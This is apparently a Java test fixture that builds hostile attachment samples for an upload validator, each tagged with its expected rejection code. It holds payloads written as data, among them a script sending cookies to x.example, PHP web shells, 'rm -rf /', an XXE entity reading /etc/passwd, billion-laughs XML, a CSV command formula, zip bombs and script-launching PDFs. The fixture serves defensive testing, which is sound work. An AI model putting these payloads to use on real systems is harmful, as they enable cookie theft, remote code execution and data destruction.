package vn.chungtay.attachments;

import static vn.chungtay.attachments.GoodFiles.bytes;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Consumer;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;

/** More than a hundred files that want to be something else than they are, each with the reason for which it is refused. */
final class HostileFiles {

    private static final String EICAR_LIKE = "<script>document.location='https://x.example/?'+document.cookie</script>";
    private static final String SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";

    private final List<Hostile> files = new ArrayList<>();

    /** A file, how it is called, and the code it is refused with. */
    record Hostile(String what, String name, byte[] content, String code) {

        @Override
        public String toString() {
            return what + " as " + name.replaceAll("\\p{Cntrl}", "·");
        }
    }

    static List<Hostile> all() {
        HostileFiles all = new HostileFiles();
        all.otherKinds();
        all.polyglots();
        all.wrongEndings();
        all.cut();
        all.bombs();
        all.office();
        all.pdfs();
        return all.files;
    }

    /** Names that are refused before anything is sent. */
    static List<Map.Entry<String, String>> names() {
        List<Map.Entry<String, String>> names = new ArrayList<>();
        for (String unsafe : List.of(
                "../anh.jpg",
                "..\\anh.jpg",
                "/etc/passwd",
                "C:\\anh.jpg",
                "thu/muc.jpg",
                "..",
                ".htaccess",
                "anh\0.jpg",
                "anh.php\0.jpg",
                "anh\u202Egpj.exe",
                "anh\u2066.jpg",
                "anh\u200B.jpg",
                "anh\uFEFF.jpg",
                "anh\n.jpg",
                "anh\r\nSet-Cookie: a=b.jpg",
                "anh\u0085.jpg",
                "anh\u2028.jpg",
                "anh.jpg:dong",
                "con.jpg",
                "NUL",
                "lpt1.pdf",
                "anh.jpg.",
                "a<b>.jpg",
                "a|b.jpg",
                "a?.jpg",
                "a*.jpg",
                "a\"b.jpg")) {
            names.add(Map.entry(unsafe, "ATTACHMENT_NAME_UNSAFE"));
        }
        for (String two : List.of(
                "anh.exe.jpg",
                "anh.php.png",
                "bao-cao.js.pdf",
                "bao-cao.docm.docx",
                "trang.html.pdf",
                "hinh.svg.png",
                "anh.EXE .jpg")) {
            names.add(Map.entry(two, "ATTACHMENT_NAME_DOUBLE"));
        }
        return names;
    }

    private void add(String what, String name, byte[] content, String code) {
        files.add(new Hostile(what, name, content, code));
    }

    private void otherKinds() {
        String markup = "ATTACHMENT_MARKUP";
        add("HTML", "anh.jpg", bytes("<!DOCTYPE html><html>" + EICAR_LIKE), markup);
        add("HTML behind white space", "anh.png", bytes(" \n\t\r\n<html>"), markup);
        add("HTML with a mark of its bytes", "anh.pdf", bytes("\u00ef\u00bb\u00bf<html>"), markup);
        add(
                "HTML in two bytes a letter",
                "anh.jpg",
                "\uFEFF<html><script>".getBytes(StandardCharsets.UTF_16LE),
                markup);
        add("HTML in UTF-16, the other way", "anh.jpg", "<html>".getBytes(StandardCharsets.UTF_16), markup);
        add("HTML behind text", "anh.docx", bytes("Kính gửi <script>alert(1)</script>"), markup);
        add("XHTML", "anh.jpg", bytes("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"/>"), markup);
        add("SVG with a script", "anh.png", bytes(SVG), markup);
        add("SVG", "anh.jpg", bytes("<svg xmlns=\"http://www.w3.org/2000/svg\"/>"), markup);
        add("SVG by its own name", "anh.svg", bytes(SVG), markup);
        add("SVG behind a declaration", "anh.webp", bytes("<?xml version=\"1.0\"?><!DOCTYPE svg>" + SVG), markup);
        add(
                "XML with an outside entity",
                "anh.docx",
                bytes("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
                markup);
        add("PHP", "anh.jpg", bytes("<?php system($_GET['c']); ?>"), markup);
        String program = "ATTACHMENT_PROGRAM";
        add("a Windows program", "anh.jpg", bytes("MZ\u0090\0\3\0\0\0\4"), program);
        add("a Linux program", "anh.pdf", bytes("\u007fELF\2\1\1"), program);
        add("a shell script", "anh.jpg", bytes("#!/bin/sh\nrm -rf /\n"), program);
        add("a Java class", "anh.png", bytes("\u00ca\u00fe\u00ba\u00be\0\0\0A"), program);
        String unknown = "ATTACHMENT_TYPE_UNKNOWN";
        add("JavaScript", "anh.jpg", bytes("alert(document.cookie)"), unknown);
        add("text", "anh.pdf", bytes("Biên bản"), unknown);
        add("CSV with a formula", "bang.xlsx", bytes("=cmd|'/c calc'!A1,1\n"), unknown);
        add("JSON", "anh.jpg", bytes("{\"a\":1}"), unknown);
        add("GIF", "anh.jpg", bytes("GIF89a\1\0\1\0\u0080\0\0"), unknown);
        add("BMP", "anh.jpg", bytes("BM\u0046\0\0\0"), unknown);
        add("TIFF", "anh.jpg", bytes("II*\0\10\0\0\0"), unknown);
        add("ICO", "anh.png", bytes("\0\0\1\0\1\0"), unknown);
        add("MP4", "anh.jpg", bytes("\0\0\0\u0020ftypisom\0\0\2\0"), unknown);
        add("HEIC", "anh.jpg", bytes("\0\0\0\u0018ftypheic\0\0\0\0"), unknown);
        add("RAR", "anh.docx", bytes("Rar!\u001a\7\1\0"), unknown);
        add("7z", "anh.docx", bytes("7z\u00bc\u00af\u0027\u001c"), unknown);
        add("gzip", "anh.docx", bytes("\u001f\u008b\10\0"), unknown);
        add("PostScript", "anh.pdf", bytes("%!PS-Adobe-3.0\n"), unknown);
        add("RTF", "van-ban.docx", bytes("{\\rtf1\\ansi}"), unknown);
        add("AVI, in the same cover as WebP", "anh.webp", bytes("RIFF\u0024\0\0\0AVI LIST"), unknown);
        add("one byte", "anh.jpg", new byte[] {1}, unknown);
        add("a link of Windows", "anh.jpg", bytes("L\0\0\0\1\u0014\2\0"), unknown);
        byte[] noise = new byte[5_000];
        new Random(7).nextBytes(noise);
        noise[0] = 0;
        add("noise", "anh.jpg", noise, unknown);
        add(
                "a Word file of 1997",
                "van-ban.docx",
                bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"),
                "ATTACHMENT_OLD_OFFICE");
        add("a packed folder", "bai.docx", GoodFiles.zip(Map.of("a.txt", bytes("a"))), unknown);
    }

    private void polyglots() {
        String polyglot = "ATTACHMENT_POLYGLOT";
        byte[] jar = GoodFiles.zip(
                Map.of("META-INF/MANIFEST.MF", bytes("Main-Class: A\n"), "A.class", bytes("\u00ca\u00fe\u00ba\u00be")));
        add("GIF and JAR", "anh.jpg", joined(bytes("GIF89a\1\0\1\0"), jar), "ATTACHMENT_TYPE_UNKNOWN");
        add("JPEG and JAR", "anh.jpg", joined(GoodFiles.jpeg(20, 20), jar), polyglot);
        add("PNG and ZIP", "anh.png", joined(GoodFiles.png(20, 20), GoodFiles.docx()), polyglot);
        add("WebP and JAR", "anh.webp", joined(GoodFiles.webp(), jar), polyglot);
        add("PDF and ZIP", "a.pdf", joined(GoodFiles.pdf(), jar), polyglot);
        add("PDF and HTML behind", "a.pdf", joined(GoodFiles.pdf(), bytes("<script>1</script>")), polyglot);
        add(
                "PDF and HTML in its head",
                "a.pdf",
                joined(bytes("%PDF-1.7\n%<html><script>1</script>\n"), GoodFiles.pdf()),
                polyglot);
        add("HTML and PDF", "a.pdf", joined(bytes("<html><!--"), GoodFiles.pdf()), "ATTACHMENT_MARKUP");
        add("PDF behind a line", "a.pdf", joined(bytes("xin chào\n"), GoodFiles.pdf()), "ATTACHMENT_TYPE_UNKNOWN");
        add("JPEG with HTML as its comment", "anh.jpg", commented(bytes(EICAR_LIKE)), polyglot);
        add("JPEG with PHP as its comment", "anh.jpg", commented(bytes("<?php eval($_GET[0]); ?>")), polyglot);
        add("JPEG and PDF", "anh.jpg", joined(GoodFiles.jpeg(20, 20), GoodFiles.pdf()), polyglot);
        add(
                "PNG with a script in a text of it",
                "anh.png",
                withChunk(GoodFiles.png(20, 20), "tEXt", bytes("a\0<script>1</script>")),
                polyglot);
        Map<String, byte[]> both = GoodFiles.wordParts();
        both.put("META-INF/MANIFEST.MF", bytes("Main-Class: A\n"));
        add("Word file and JAR", "a.docx", GoodFiles.zip(both), polyglot);
        add("Word file and more behind", "a.docx", joined(GoodFiles.docx(), bytes("<script>1</script>")), polyglot);
        add("program and Word file", "a.docx", joined(bytes("MZ\u0090\0"), GoodFiles.docx()), "ATTACHMENT_PROGRAM");
    }

    private void wrongEndings() {
        String unfit = "ATTACHMENT_NAME_UNFIT";
        add("PDF", "anh.jpg", GoodFiles.pdf(), unfit);
        add("JPEG", "bien-ban.pdf", GoodFiles.jpeg(20, 20), unfit);
        add("JPEG", "anh.exe", GoodFiles.jpeg(20, 20), unfit);
        add("JPEG", "anh.svg", GoodFiles.jpeg(20, 20), unfit);
        add("PDF", "trang.html", GoodFiles.pdf(), unfit);
        add("PDF", "bien-ban.pdf.exe", GoodFiles.pdf(), unfit);
        add("Word file", "bang.xlsx", GoodFiles.docx(), unfit);
        add("Word file", "van-ban.docm", GoodFiles.docx(), unfit);
        add("workbook", "bang.zip", GoodFiles.xlsx(), unfit);
    }

    private void cut() {
        String cut = "ATTACHMENT_CUT";
        String broken = "ATTACHMENT_PICTURE_BROKEN";
        byte[] jpeg = GoodFiles.jpeg(300, 300);
        add("half a JPEG", "anh.jpg", Arrays.copyOf(jpeg, jpeg.length / 2), cut);
        add("JPEG without its end", "anh.jpg", Arrays.copyOf(jpeg, jpeg.length - 2), cut);
        add("JPEG's first bytes", "anh.jpg", Arrays.copyOf(jpeg, 20), cut);
        add(
                "JPEG of noise",
                "anh.jpg",
                joined(bytes("\u00ff\u00d8\u00ff\u00da\0\2"), bytes("aaaa\u00ff\u00d9")),
                broken);
        byte[] png = GoodFiles.png(300, 300);
        add("half a PNG", "anh.png", Arrays.copyOf(png, png.length / 2), broken);
        add("PNG's first bytes", "anh.png", Arrays.copyOf(png, 12), broken);
        add("PNG of 0 × 0", "anh.png", announced(0, 0), broken);
        add("half a WebP", "anh.webp", Arrays.copyOf(GoodFiles.webp(), 24), broken);
        byte[] pdf = GoodFiles.pdf();
        add("half a PDF", "a.pdf", Arrays.copyOf(pdf, pdf.length / 2), cut);
        add("PDF without its end", "a.pdf", Arrays.copyOf(pdf, pdf.length - 7), cut);
        add("PDF's head and end alone", "a.pdf", bytes("%PDF-1.7\n%%EOF\n"), "ATTACHMENT_PDF_BROKEN");
        add(
                "PDF of noise",
                "a.pdf",
                joined(bytes("%PDF-1.7\nxref\n0 9\nabc"), bytes("\ntrailer <<>>\nstartxref\n9\n%%EOF")),
                "ATTACHMENT_PDF_BROKEN");
        byte[] docx = GoodFiles.docx();
        add("half a Word file", "a.docx", Arrays.copyOf(docx, docx.length / 2), cut);
        add("Word file without its list", "a.docx", Arrays.copyOf(docx, docx.length - 22), cut);
    }

    private void bombs() {
        String dimensions = "ATTACHMENT_DIMENSIONS";
        String bomb = "ATTACHMENT_BOMB";
        add("PNG of 60,000 × 60,000", "anh.png", announced(60_000, 60_000), dimensions);
        add("PNG of 2,147,483,647 × 1", "anh.png", announced(Integer.MAX_VALUE, 1), dimensions);
        add("PNG of 20,001 × 1", "anh.png", announced(20_001, 1), dimensions);
        byte[] jpeg = GoodFiles.jpeg(20, 20);
        int frame = indexOf(jpeg, "\u00ff\u00c0");
        Arrays.fill(jpeg, frame + 5, frame + 9, (byte) 0xFE);
        add("JPEG of 65,278 × 65,278", "anh.jpg", jpeg, dimensions);
        byte[] webp = GoodFiles.webp();
        Arrays.fill(webp, 21, 24, (byte) 0xFF);
        webp[24] = 0x0F;
        add("WebP of 16,384 × 16,384", "anh.webp", webp, dimensions);
        Map<String, byte[]> burst = GoodFiles.wordParts();
        burst.put("word/media/a.xml", new byte[64 << 20]);
        add("Word file of 64 MB of nothing", "a.docx", GoodFiles.zip(burst), bomb);
        Map<String, byte[]> many = GoodFiles.wordParts();
        for (int i = 0; i < 2_100; i++) {
            many.put("word/a" + i + ".xml", new byte[0]);
        }
        add("Word file of 2,100 parts", "a.docx", GoodFiles.zip(many), bomb);
        Map<String, byte[]> list = GoodFiles.wordParts();
        list.put("[Content_Types].xml", bytes(GoodFiles.TYPES_HEAD + " ".repeat(2 << 20) + "</Types>"));
        add("Word file with a list of 2 MB", "a.docx", GoodFiles.zip(list), bomb);
        add("PDF with 80 MB of nothing", "a.pdf", packedPdf("", 80), bomb);
        add("PDF with a list of 80 MB of nothing", "a.pdf", packedPdf("/Type /ObjStm /N 1 /First 4", 80), bomb);
    }

    private void office() {
        String macros = "ATTACHMENT_MACROS";
        String acting = "ATTACHMENT_ACTIVE";
        String path = "ATTACHMENT_ZIP_PATH";
        word("macros", macros, parts -> parts.put("word/vbaProject.bin", bytes("x")));
        word(
                "a Word file of macros, renamed",
                macros,
                parts -> types(parts, "application/vnd.ms-word.document.macroEnabled.main+xml"));
        word(
                "a workbook of macros, renamed",
                macros,
                parts -> types(parts, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"));
        word(
                "slides with macros, renamed",
                macros,
                parts -> types(parts, "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"));
        word("macros under another name", macros, parts -> types(parts, "application/vnd.ms-office.vbaProject"));
        word("a file of macros within", macros, parts -> parts.put("word/embeddings/a.xlsm", bytes("x")));
        word("an object within", acting, parts -> parts.put("word/embeddings/oleObject1.bin", bytes("x")));
        word("ActiveX", acting, parts -> parts.put("word/activeX/activeX1.xml", bytes("<a/>")));
        word("a program within", acting, parts -> parts.put("word/media/a.exe", bytes("MZ")));
        word("a web page within", acting, parts -> parts.put("word/afchunk.html", bytes("<html>")));
        word(
                "a template from elsewhere",
                acting,
                parts -> parts.put("word/_rels/settings.xml.rels", relation("attachedTemplate")));
        word("a picture from elsewhere", acting, parts -> parts.put("word/_rels/document.xml.rels", relation("image")));
        word("a way up", path, parts -> parts.put("../../../etc/cron.d/a", bytes("x")));
        word("a way up in the middle", path, parts -> parts.put("word/../../a", bytes("x")));
        word("a way from the root", path, parts -> parts.put("/etc/a", bytes("x")));
        word("a way of Windows", path, parts -> parts.put("word\\..\\..\\a", bytes("x")));
        word("a drive of Windows", path, parts -> parts.put("C:/a", bytes("x")));
        word("a part twice", path, parts -> parts.put("WORD/document.xml", bytes("x")));
        word(
                "no document",
                "ATTACHMENT_TYPE_UNKNOWN",
                parts -> parts.put("[Content_Types].xml", bytes(GoodFiles.TYPES_HEAD + "</Types>")));
        word(
                "a list that is no XML",
                "ATTACHMENT_OFFICE_BROKEN",
                parts -> parts.put("[Content_Types].xml", bytes("<Types")));
        word(
                "a list that multiplies",
                "ATTACHMENT_OFFICE_BROKEN",
                parts -> parts.put("[Content_Types].xml", bytes(laughs())));
    }

    private void word(String what, String code, Consumer<Map<String, byte[]>> change) {
        Map<String, byte[]> parts = GoodFiles.wordParts();
        change.accept(parts);
        add("Word file with " + what, "a.docx", GoodFiles.zip(parts), code);
    }

    private static void types(Map<String, byte[]> parts, String type) {
        parts.put(
                "[Content_Types].xml",
                bytes(GoodFiles.TYPES_HEAD + "<Override PartName=\"/word/document.xml\" ContentType=\"" + type
                        + "\"/></Types>"));
    }

    private static byte[] relation(String type) {
        return bytes(GoodFiles.RELATIONS.formatted(
                "<Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                        + type + "\" Target=\"https://x.example/a\" TargetMode=\"External\"/>"));
    }

    private static String laughs() {
        StringBuilder text = new StringBuilder("<!DOCTYPE Types [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 20; i++) {
            text.append("<!ENTITY a")
                    .append(i)
                    .append(" \"&a")
                    .append(i - 1)
                    .append(";&a")
                    .append(i - 1)
                    .append(";\">");
        }
        return text + "]><Types>&a19;</Types>";
    }

    private void pdfs() {
        for (boolean packed : new boolean[] {false, true}) {
            String how = packed ? ", packed away" : "";
            catalogue(
                    "a script when it is opened" + how,
                    packed,
                    root -> root.setItem(COSName.OPEN_ACTION, action("JavaScript")));
            catalogue(
                    "a program that it starts" + how,
                    packed,
                    root -> root.setItem(COSName.OPEN_ACTION, action("Launch")));
            catalogue("a file within" + how, packed, root -> {
                COSDictionary names = new COSDictionary();
                names.setItem(COSName.EMBEDDED_FILES, new COSDictionary());
                root.setItem(COSName.NAMES, names);
            });
        }
        catalogue("a script among its names", false, root -> {
            COSDictionary names = new COSDictionary();
            names.setItem(COSName.getPDFName("JavaScript"), new COSDictionary());
            root.setItem(COSName.NAMES, names);
        });
        catalogue("a form of XFA", false, root -> {
            COSDictionary form = new COSDictionary();
            form.setItem(COSName.getPDFName("XFA"), new COSArray());
            root.setItem(COSName.ACRO_FORM, form);
        });
        for (String action : List.of("SubmitForm", "ImportData", "GoToE", "Rendition")) {
            catalogue("an action " + action, true, root -> root.setItem(COSName.OPEN_ACTION, action(action)));
        }
        for (String kind : List.of("FileAttachment", "RichMedia", "Sound", "3D")) {
            add(
                    "PDF with a note of the kind " + kind,
                    "a.pdf",
                    GoodFiles.pdf(
                            document -> {
                                COSDictionary note = new COSDictionary();
                                note.setItem(COSName.SUBTYPE, COSName.getPDFName(kind));
                                COSArray notes = new COSArray();
                                notes.add(note);
                                document.getPage(0).getCOSObject().setItem(COSName.ANNOTS, notes);
                            },
                            true),
                    "ATTACHMENT_ACTIVE");
        }
        add("PDF that hides how a script is written", "a.pdf", hiddenScript(), "ATTACHMENT_ACTIVE");
        add("PDF with a password", "a.pdf", locked("mat-khau"), "ATTACHMENT_LOCKED");
        add("PDF that may not be copied", "a.pdf", locked(""), "ATTACHMENT_LOCKED");
        add(
                "PDF without a page",
                "a.pdf",
                GoodFiles.pdf(document -> document.removePage(0), false),
                "ATTACHMENT_PDF_BROKEN");
    }

    private void catalogue(String what, boolean packed, Consumer<COSDictionary> change) {
        byte[] pdf = GoodFiles.pdf(
                document -> change.accept(document.getDocumentCatalog().getCOSObject()), packed);
        add("PDF with " + what, "a.pdf", pdf, "ATTACHMENT_ACTIVE");
    }

    private static COSDictionary action(String kind) {
        COSDictionary action = new COSDictionary();
        action.setItem(COSName.S, COSName.getPDFName(kind));
        if (kind.equals("JavaScript")) {
            action.setItem(COSName.JS, new COSString("app.alert(1)"));
        }
        return action;
    }

    private static byte[] hiddenScript() {
        return bytes("""
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >> >> endobj
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj
                trailer << /Root 1 0 R /Size 4 >>
                startxref
                0
                %%EOF
                """);
    }

    private static byte[] locked(String password) {
        return GoodFiles.pdf(
                document -> {
                    StandardProtectionPolicy policy =
                            new StandardProtectionPolicy("chu-so-huu", password, new AccessPermission());
                    policy.setEncryptionKeyLength(128);
                    document.protect(policy);
                },
                false);
    }

    private static byte[] packedPdf(String more, int megabytes) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        deflater.setInput(new byte[megabytes << 20]);
        deflater.finish();
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        byte[] part = new byte[1 << 16];
        for (int made = deflater.deflate(part); made > 0; made = deflater.deflate(part)) {
            packed.write(part, 0, made);
        }
        deflater.end();
        String head =
                "%PDF-1.5\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
                        + "3 0 obj << " + more + " /Filter /FlateDecode /Length " + packed.size() + " >> stream\n";
        return joined(
                joined(bytes(head), packed.toByteArray()),
                bytes("\nendstream endobj\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF"));
    }

    /** A PNG that says how large it is, and has nearly nothing in it. */
    private static byte[] announced(int width, int height) {
        byte[] header = ByteBuffer.allocate(13)
                .putInt(width)
                .putInt(height)
                .put(new byte[] {8, 2, 0, 0, 0})
                .array();
        byte[] png = joined(bytes("\u0089PNG\r\n\u001a\n"), chunk("IHDR", header));
        png = joined(png, chunk("IDAT", bytes("\u0078\u009c\u0063\u0000\u0000\u0000\u0001\u0000\u0001")));
        return joined(png, chunk("IEND", new byte[0]));
    }

    private static byte[] withChunk(byte[] png, String type, byte[] content) {
        return joined(joined(Arrays.copyOf(png, 33), chunk(type, content)), Arrays.copyOfRange(png, 33, png.length));
    }

    private static byte[] chunk(String type, byte[] content) {
        byte[] named = joined(bytes(type), content);
        CRC32 sum = new CRC32();
        sum.update(named);
        return ByteBuffer.allocate(named.length + 8)
                .putInt(content.length)
                .put(named)
                .putInt((int) sum.getValue())
                .array();
    }

    private static byte[] commented(byte[] comment) {
        byte[] jpeg = GoodFiles.jpeg(20, 20);
        byte[] segment = ByteBuffer.allocate(comment.length + 4)
                .putShort((short) 0xFFFE)
                .putShort((short) (comment.length + 2))
                .put(comment)
                .array();
        return joined(joined(Arrays.copyOf(jpeg, 2), segment), Arrays.copyOfRange(jpeg, 2, jpeg.length));
    }

    private static int indexOf(byte[] bytes, String signature) {
        return new String(bytes, StandardCharsets.ISO_8859_1).indexOf(signature);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
